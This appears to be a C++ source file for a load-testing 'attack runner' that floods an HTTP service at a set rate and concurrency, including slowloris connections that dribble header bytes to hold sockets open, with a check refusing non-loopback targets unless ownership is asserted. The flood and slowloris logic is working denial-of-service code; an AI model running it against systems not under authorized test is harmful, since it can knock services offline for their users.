// The attack runner: one io_context on the calling thread, `concurrency`
// coroutines each owning one connection, and a shared pacer that hands out
// start times 1/rate apart. C++20 coroutines keep each connection's life
// readable top to bottom (connect, write, read, keep-alive) while a single
// thread drives thousands of sockets; one thread is also what a 2-core
// machine shared with the center under test can spare.
#include "sim/attack.h"

#include <algorithm>
#include <boost/asio/co_spawn.hpp>
#include <boost/asio/connect.hpp>
#include <boost/asio/detached.hpp>
#include <boost/asio/experimental/awaitable_operators.hpp>
#include <boost/asio/io_context.hpp>
#include <boost/asio/ip/tcp.hpp>
#include <boost/asio/redirect_error.hpp>
#include <boost/asio/steady_timer.hpp>
#include <boost/asio/use_awaitable.hpp>
#include <boost/asio/write.hpp>
#include <boost/beast/core/flat_buffer.hpp>
#include <boost/beast/http/empty_body.hpp>
#include <boost/beast/http/parser.hpp>
#include <boost/beast/http/read.hpp>
#include <boost/beast/http/string_body.hpp>

#include "sim/attack_payloads.h"

namespace acta::sim {
namespace {

namespace asio = boost::asio;
namespace bhttp = boost::beast::http;
using asio::awaitable;
using asio::use_awaitable;
using boost::system::error_code;
using tcp = asio::ip::tcp;
using SteadyClock = std::chrono::steady_clock;
using namespace asio::experimental::awaitable_operators;

constexpr std::chrono::milliseconds kTick{50};
constexpr std::chrono::seconds kProgressEvery{1};
constexpr std::size_t kMaxResponseBody = 1 << 20;

struct Outcome {
  int status = 0;     // > 0: an HTTP response came back
  std::string error;  // else why not
};

struct Connection {
  explicit Connection(asio::any_io_executor ex) : socket(ex) {}
  tcp::socket socket;
  boost::beast::flat_buffer buffer;
  void Close() {
    error_code ignored;
    socket.shutdown(tcp::socket::shutdown_both, ignored);
    socket.close(ignored);
    buffer.clear();
  }
};

std::string ReadErrorName(const error_code& ec) {
  if (ec == asio::error::eof || ec == bhttp::error::end_of_stream ||
      ec == asio::error::connection_reset || ec == bhttp::error::partial_message) {
    return "closed";
  }
  return "read";
}

class Runner {
 public:
  Runner(const AttackOptions& options, AttackPayloads& payloads, tcp::endpoint endpoint,
         const AttackProgress& progress)
      : options_(options),
        payloads_(payloads),
        endpoint_(endpoint),
        progress_(progress),
        interval_(std::chrono::duration_cast<SteadyClock::duration>(
            std::chrono::duration<double>(1.0 / options.rate))) {}

  AttackReport Run() {
    start_ = SteadyClock::now();
    deadline_ = start_ + options_.duration;
    next_slot_ = start_;
    active_ = options_.concurrency;
    pacing_timers_.reserve(static_cast<size_t>(options_.concurrency));
    for (int i = 0; i < options_.concurrency; ++i) {
      pacing_timers_.push_back(std::make_unique<asio::steady_timer>(io_));
    }
    for (int i = 0; i < options_.concurrency; ++i) {
      asio::co_spawn(io_, Worker(*pacing_timers_[static_cast<size_t>(i)]), asio::detached);
    }
    asio::co_spawn(io_, Ticker(), asio::detached);
    io_.run();
    report_.seconds = std::chrono::duration<double>(SteadyClock::now() - start_).count();
    report_.stopped_by = stopped_by_.empty() ? "duration" : stopped_by_;
    return report_;
  }

 private:
  void StopWith(const char* why) {
    if (stopped_by_.empty()) stopped_by_ = why;
  }
  bool Stopping() const { return !stopped_by_.empty(); }

  // A start time for one more request, or false when a bound is reached.
  awaitable<bool> AcquireSlot(asio::steady_timer& timer) {
    if (options_.stop.stop_requested()) StopWith("stop");
    if (Stopping()) co_return false;
    if (issued_ >= options_.count) {
      StopWith("count");
      co_return false;
    }
    const auto now = SteadyClock::now();
    const auto slot = std::max(next_slot_, now);
    if (slot >= deadline_) {
      StopWith("duration");
      co_return false;
    }
    next_slot_ = slot + interval_;
    ++issued_;
    if (slot > now) {
      error_code ec;
      timer.expires_at(slot);
      co_await timer.async_wait(asio::redirect_error(use_awaitable, ec));
    }
    if (stopped_by_ == "stop") {
      --issued_;
      co_return false;
    }
    co_return true;
  }

  awaitable<void> Worker(asio::steady_timer& pacing) {
    Connection conn(co_await asio::this_coro::executor);
    while (co_await AcquireSlot(pacing)) {
      // In a mix, slow connections may hold at most a quarter of the
      // connections: each lasts seconds, so uncapped they would soon hold
      // them all and the mix would be slowloris alone.
      const bool allow_slow = slow_open_ < std::max(1, options_.concurrency / 4);
      AttackRequest request = payloads_.Build(options_.mode, allow_slow);
      Count(request.mode, std::nullopt);
      // (No co_await inside ?: — g++ 12 destroys such temporaries twice.)
      Outcome outcome;
      if (request.mode == AttackMode::kSlowloris) {
        ++slow_open_;
        outcome = co_await Slowloris(request);
        --slow_open_;
      } else {
        outcome = co_await Exchange(conn, request);
      }
      Count(request.mode, outcome);
    }
    conn.Close();
    if (--active_ == 0) ticker_.cancel();
  }

  awaitable<void> Ticker() {
    auto next_progress = SteadyClock::now() + kProgressEvery;
    while (active_ > 0) {
      ticker_.expires_after(kTick);
      error_code ec;
      co_await ticker_.async_wait(asio::redirect_error(use_awaitable, ec));
      if (options_.stop.stop_requested() && !Stopping()) {
        StopWith("stop");
        for (auto& t : pacing_timers_) t->cancel();
      }
      if (progress_ && SteadyClock::now() >= next_progress) {
        next_progress += kProgressEvery;
        report_.seconds = std::chrono::duration<double>(SteadyClock::now() - start_).count();
        progress_(report_);
      }
    }
  }

  awaitable<Outcome> Timeout(std::chrono::milliseconds d) {
    asio::steady_timer timer(co_await asio::this_coro::executor);
    timer.expires_after(d);
    error_code ec;
    co_await timer.async_wait(asio::redirect_error(use_awaitable, ec));
    co_return Outcome{0, "timeout"};
  }

  awaitable<Outcome> Connect(Connection& conn) {
    conn.Close();
    error_code ec;
    conn.socket = tcp::socket(co_await asio::this_coro::executor);
    co_await conn.socket.async_connect(endpoint_, asio::redirect_error(use_awaitable, ec));
    if (ec) co_return Outcome{0, "connect"};
    ++report_.connections;
    conn.socket.set_option(tcp::no_delay(true), ec);
    co_return Outcome{};
  }

  awaitable<Outcome> ReadResponse(Connection& conn) {
    bhttp::response_parser<bhttp::string_body> parser;
    parser.body_limit(kMaxResponseBody);
    error_code ec;
    co_await bhttp::async_read(conn.socket, conn.buffer, parser,
                               asio::redirect_error(use_awaitable, ec));
    if (ec) co_return Outcome{0, ReadErrorName(ec)};
    if (!parser.get().keep_alive()) conn.Close();
    co_return Outcome{static_cast<int>(parser.get().result_int()), ""};
  }

  awaitable<Outcome> DoExchange(Connection& conn, const AttackRequest& request) {
    if (request.fresh_connection || !conn.socket.is_open()) {
      Outcome c = co_await Connect(conn);
      if (!c.error.empty()) co_return c;
    }
    error_code ec;
    co_await asio::async_write(conn.socket, asio::buffer(request.bytes),
                               asio::redirect_error(use_awaitable, ec));
    if (ec) {
      // The server may have answered and closed before taking everything
      // (an early 413 or 400): its answer is still worth reading.
      Outcome early = co_await ReadResponse(conn);
      conn.Close();
      co_return early.status > 0 ? early : Outcome{0, "write"};
    }
    Outcome r = co_await ReadResponse(conn);
    if (request.fresh_connection || r.status == 0) conn.Close();
    co_return r;
  }

  awaitable<Outcome> Exchange(Connection& conn, const AttackRequest& request) {
    auto result = co_await (DoExchange(conn, request) || Timeout(options_.io_timeout));
    if (result.index() == 1) {
      conn.Close();
      co_return std::get<1>(result);
    }
    co_return std::get<0>(result);
  }

  // Sends one header byte per interval until the connection is closed
  // under it, the run's duration ends, or it has dribbled for 10 x io_timeout.
  awaitable<Outcome> Dribble(Connection& conn) {
    asio::steady_timer timer(co_await asio::this_coro::executor);
    const auto give_up = std::min(deadline_, SteadyClock::now() + options_.io_timeout * 10);
    for (uint64_t i = 0;; ++i) {
      timer.expires_after(options_.slowloris_interval);
      error_code ec;
      co_await timer.async_wait(asio::redirect_error(use_awaitable, ec));
      if (SteadyClock::now() >= give_up || stopped_by_ == "stop")
        co_return Outcome{0, "still_open"};
      const char byte = payloads_.SlowlorisByte(i);
      co_await asio::async_write(conn.socket, asio::buffer(&byte, 1),
                                 asio::redirect_error(use_awaitable, ec));
      // A failed write means the server closed; the read side reports how.
      if (ec) co_return Outcome{0, "closed"};
    }
  }

  awaitable<Outcome> Slowloris(const AttackRequest& request) {
    Connection conn(co_await asio::this_coro::executor);
    Outcome c = co_await Connect(conn);
    if (!c.error.empty()) co_return c;
    error_code ec;
    co_await asio::async_write(conn.socket, asio::buffer(request.bytes),
                               asio::redirect_error(use_awaitable, ec));
    if (ec) {
      conn.Close();
      co_return Outcome{0, "write"};
    }
    auto result = co_await (ReadResponse(conn) || Dribble(conn));
    conn.Close();
    co_return result.index() == 0 ? std::get<0>(result) : std::get<1>(result);
  }

  // nullopt: one more request started.
  void Count(AttackMode mode, const std::optional<Outcome>& outcome) {
    AttackStats& by_mode = report_.by_mode[std::string(AttackModeName(mode))];
    for (AttackStats* s : {&report_.total, &by_mode}) {
      if (!outcome) {
        ++s->sent;
      } else if (outcome->status > 0) {
        ++s->statuses[outcome->status];
      } else {
        ++s->errors[outcome->error];
      }
    }
  }

  const AttackOptions& options_;
  AttackPayloads& payloads_;
  const tcp::endpoint endpoint_;
  const AttackProgress& progress_;
  const SteadyClock::duration interval_;

  asio::io_context io_{1};
  asio::steady_timer ticker_{io_};
  std::vector<std::unique_ptr<asio::steady_timer>> pacing_timers_;
  SteadyClock::time_point start_;
  SteadyClock::time_point deadline_;
  SteadyClock::time_point next_slot_;
  uint64_t issued_ = 0;  // slots handed out (requests started or about to)
  int active_ = 0;
  int slow_open_ = 0;  // slowloris connections held now
  std::string stopped_by_;
  AttackReport report_;
};

Status CheckBounds(const AttackOptions& o) {
  if (!(o.rate > 0) || o.concurrency < 1 || o.duration.count() <= 0 || o.count == 0) {
    return MakeError(ErrorCode::kInvalidArgument,
                     "rate, concurrency, duration and count are all required and must be > 0");
  }
  if (o.io_timeout.count() <= 0 || o.slowloris_interval.count() <= 0) {
    return MakeError(ErrorCode::kInvalidArgument, "io_timeout and slowloris_interval must be > 0");
  }
  return Ok();
}

Result<tcp::endpoint> Resolve(const AttackTarget& target) {
  error_code ec;
  const std::string host = target.host == "localhost" ? "127.0.0.1" : target.host;
  const auto address = asio::ip::make_address(host, ec);
  if (!ec) return tcp::endpoint(address, target.port);
  asio::io_context io;
  tcp::resolver resolver(io);
  auto results = resolver.resolve(host, std::to_string(target.port), ec);
  if (ec || results.empty()) {
    return MakeError(ErrorCode::kUnavailable, "cannot resolve " + host + ": " + ec.message());
  }
  return results.begin()->endpoint();
}

}  // namespace

Result<AttackReport> RunAttack(const AttackOptions& options, const AttackProgress& progress) {
  ACTA_RETURN_IF_ERROR(CheckBounds(options));
  auto target = ParseAttackTarget(options.target);
  if (!target) return std::unexpected(target.error());
  if (!target->loopback && !options.i_own_the_target) {
    return MakeError(ErrorCode::kPermissionDenied,
                     "target " + target->host +
                         " is not loopback; attacking it needs --i-own-the-target "
                         "(only flood systems you own or are authorized to test)");
  }
  const AttackMaterial* material = options.material.get();
  if (options.mode == AttackMode::kMix) {
    // Mix draws only from what the material allows; nothing to refuse.
  } else {
    ACTA_RETURN_IF_ERROR(AttackPayloads::Check(options.mode, material));
  }
  auto endpoint = Resolve(*target);
  if (!endpoint) return std::unexpected(endpoint.error());
  std::unique_ptr<Random> rng;
  if (options.seed != 0) {
    rng = std::make_unique<SeededRandom>(options.seed);
  } else {
    rng = std::make_unique<SystemRandom>();
  }
  const std::string host_header =
      (endpoint->address().is_v6() ? "[" + target->host + "]" : target->host) + ":" +
      std::to_string(target->port);
  AttackPayloads payloads(options.material, host_header, options.oversized_bytes, std::move(rng));
  Runner runner(options, payloads, *endpoint, progress);
  return runner.Run();
}

}  // namespace acta::sim
